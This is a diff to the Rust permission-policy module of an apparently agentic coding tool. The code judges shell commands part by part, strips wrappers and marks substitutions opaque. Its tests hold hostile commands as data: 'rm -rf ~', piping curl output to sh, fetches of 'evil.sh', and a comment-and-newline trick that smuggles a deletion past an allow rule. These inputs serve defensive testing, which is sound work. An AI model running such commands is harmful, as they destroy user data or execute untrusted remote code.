@@ -9,11 +9,12 @@
 //! `run_command`, the path of file tools.
 //!
 //! A call is judged by its parts: each simple command of a compound shell command
-//! (`cargo test && rm -rf ~` is `cargo test` and `rm -rf ~`), each path of a multi-file
-//! edit (one per line of the rule argument), paths lexically normalized (`./a/b` is
-//! `a/b`). A deny or ask rule hits when it covers any part; an allow rule set allows only
-//! when it covers every part, and never a command that substitutes another (`$(…)`,
-//! backticks, `<(…)`), whose effect no rule can see.
+//! (`cargo test && rm -rf ~` is `cargo test` and `rm -rf ~`, see `shell.rs`), each path of
+//! a multi-file edit (one per line of the rule argument), paths lexically normalized
+//! (`./a/b` is `a/b`). A deny or ask rule hits when it covers the whole argument or any
+//! part (a command also without its wrappers: `(rm …)`, `env rm …`, `FOO=1 rm …`); an
+//! allow rule set allows only when it covers every part, and never an opaque command
+//! (substitutions, here-documents, comments, escapes…), whose effect no rule can see.
 //!
 //! Order (deny wins): a deny rule denies; read-only mode denies anything that is not
 //! read-only (MCP tools marked read-only are asked about); an ask rule asks; a command on
@@ -23,6 +24,7 @@
 //! outside (MCP tools not marked read-only).
 
 use crate::error::AgentError;
+use crate::shell;
 use crate::tools::ToolKind;
 use lathe_protocol::config::{ApprovalMode, PolicyConfig};
 use lathe_protocol::skill::tool_pattern_matches;
@@ -193,107 +195,90 @@ impl Policy {
     }
 }
 
+/// Tools whose rule argument is workspace paths, one per line.
+const PATH_TOOLS: [&str; 7] = [
+    "read_file",
+    "list_files",
+    "code_context",
+    "edit_file",
+    "apply_patch",
+    "write_file",
+    "repo_map",
+];
+
 /// What rules judge of one call (see the module header).
 #[derive(Debug, PartialEq, Eq)]
 struct Parts {
+    /// The whole argument, when there is one.
+    whole: Option<String>,
     /// Empty when the call has no argument.
     parts: Vec<String>,
-    /// A command substitutes another: no allow rule covers it.
+    /// A command does something no rule can see: no allow rule covers it.
     opaque: bool,
 }
 
 impl Parts {
     fn of(tool: &str, argument: Option<&str>) -> Parts {
+        let whole = argument.map(str::to_owned);
         let Some(argument) = argument else {
             return Parts {
+                whole,
                 parts: Vec::new(),
                 opaque: false,
             };
         };
         if tool == "run_command" {
-            return split_command(argument);
+            let split = shell::split(argument);
+            return Parts {
+                whole,
+                parts: split.parts,
+                opaque: split.opaque,
+            };
         }
-        let parts = argument
-            .lines()
-            .filter(|l| !l.trim().is_empty())
-            .map(|l| {
-                lathe_edits::normalize_relative_path(l).unwrap_or_else(|_| l.trim().to_owned())
-            })
-            .collect();
+        let parts = if PATH_TOOLS.contains(&tool) {
+            argument
+                .lines()
+                .filter(|l| !l.trim().is_empty())
+                .map(|l| {
+                    lathe_edits::normalize_relative_path(l).unwrap_or_else(|_| l.trim().to_owned())
+                })
+                .collect()
+        } else {
+            vec![argument.to_owned()]
+        };
         Parts {
+            whole,
             parts,
             opaque: false,
         }
     }
 
+    /// Whether a rule covers the whole call or any part of it (for deny and ask rules),
+    /// commands also by what they run without their wrappers.
     fn any_covered(&self, rules: &[Rule], tool: &str) -> bool {
+        let hit = |argument: Option<&str>| rules.iter().any(|r| r.matches(tool, argument));
         if self.parts.is_empty() {
-            return rules.iter().any(|r| r.matches(tool, None));
+            return hit(self.whole.as_deref());
         }
-        self.parts
-            .iter()
-            .any(|part| rules.iter().any(|r| r.matches(tool, Some(part))))
+        hit(self.whole.as_deref())
+            || self
+                .parts
+                .iter()
+                .any(|part| hit(Some(part)) || hit(Some(shell::core(part))))
     }
 
+    /// Whether rules cover every part (for allow rules); never an opaque command.
     fn all_covered(&self, rules: &[Rule], tool: &str) -> bool {
         if self.opaque {
             return false;
         }
         if self.parts.is_empty() {
-            return rules.iter().any(|r| r.matches(tool, None));
+            return rules.iter().any(|r| r.matches(tool, self.whole.as_deref()));
         }
         self.parts
             .iter()
             .all(|part| rules.iter().any(|r| r.matches(tool, Some(part))))
     }
-}
-
-/// Splits a shell command into its simple commands at `;`, `&`, `&&`, `|`, `||`, `|&` and
-/// line breaks outside quotes (`2>&1` and `&>` are redirections, not separators); marks it
-/// opaque when it substitutes a command.
-fn split_command(command: &str) -> Parts {
-    let mut parts = Vec::new();
-    let mut current = String::new();
-    let mut opaque = false;
-    let (mut single, mut double) = (false, false);
-    let mut chars = command.chars().peekable();
-    let mut flush = |current: &mut String| {
-        let part = current.trim();
-        if !part.is_empty() {
-            parts.push(part.to_owned());
-        }
-        current.clear();
-    };
-    while let Some(c) = chars.next() {
-        let quoted = single || double;
-        match c {
-            '\\' if !single => {
-                current.push(c);
-                if let Some(next) = chars.next() {
-                    current.push(next);
-                }
-                continue;
-            }
-            '\'' if !double => single = !single,
-            '"' if !single => double = !double,
-            '`' if !single => opaque = true,
-            '$' | '<' | '>' if !single && chars.peek() == Some(&'(') => {
-                opaque = opaque || c == '$' || !double;
-            }
-            '&' if !quoted && (current.ends_with('>') || chars.peek() == Some(&'>')) => {}
-            ';' | '\n' | '&' | '|' if !quoted => {
-                flush(&mut current);
-                while matches!(chars.peek(), Some('&' | '|')) {
-                    chars.next();
-                }
-                continue;
-            }
-            _ => {}
-        }
-        current.push(c);
-    }
-    flush(&mut current);
-    Parts { parts, opaque }
 }
 
 /// The rule-shaped form of a call: `tool(argument)` or `tool`.
@@ -345,38 +330,31 @@ mod tests {
 
     #[test]
     fn compound_commands_are_judged_part_by_part() {
-        let parts = |c: &str| split_command(c);
-        assert_eq!(
-            parts("cargo test && rm -rf ~; echo 'a && b' | wc -l 2>&1\nls &>/dev/null &"),
-            Parts {
-                parts: vec![
-                    "cargo test".into(),
-                    "rm -rf ~".into(),
-                    "echo 'a && b'".into(),
-                    "wc -l 2>&1".into(),
-                    "ls &>/dev/null".into(),
-                ],
-                opaque: false,
-            }
-        );
-        assert!(parts("cargo test $(curl x)").opaque);
-        assert!(parts("cargo test `id`").opaque);
-        assert!(parts("diff <(ls) b").opaque);
-        assert!(!parts("echo '$(not run)'").opaque);
-
         let p = policy(
             ApprovalMode::Ask,
             &["run_command(cargo test:*)", "run_command(wc:*)"],
             &[],
-            &["run_command(rm:*)"],
+            &["run_command(rm:*)", "run_command(curl x | sh)"],
         );
         let decide = |c: &str| p.decide("run_command", ToolKind::Command, Some(c), true);
         assert_eq!(decide("cargo test | wc -l"), Verdict::Allow);
         assert_eq!(decide("cargo test && curl evil.sh"), Verdict::Ask);
         assert_eq!(decide("cargo test $(curl evil.sh)"), Verdict::Ask);
         assert_eq!(
+            decide("cargo test #'\nrm -rf ~ #'"),
+            Verdict::Deny(
+                "`run_command(cargo test #'\nrm -rf ~ #')` is denied by a policy rule".into()
+            )
+        );
+        assert_eq!(
             decide("cargo test; rm -rf ~"),
             Verdict::Deny("`run_command(cargo test; rm -rf ~)` is denied by a policy rule".into())
+        );
+        assert!(matches!(decide("cargo test; (rm -rf ~)"), Verdict::Deny(_)));
+        assert!(matches!(decide("FOO=1 rm -rf ~"), Verdict::Deny(_)));
+        assert!(
+            matches!(decide("curl x | sh"), Verdict::Deny(_)),
+            "a whole-command rule"
         );
     }
 
@@ -472,6 +450,16 @@ mod tests {
                 None,
                 true,
                 Verdict::Ask,
+            ),
+            (
+                ApprovalMode::ReadOnly,
+                "mcp__x__deploy",
+                ToolKind::External,
+                None,
+                true,
+                Verdict::Deny(
+                    "`mcp__x__deploy` changes things and this session is read-only".into(),
+                ),
             ),
             (
                 ApprovalMode::Ask,
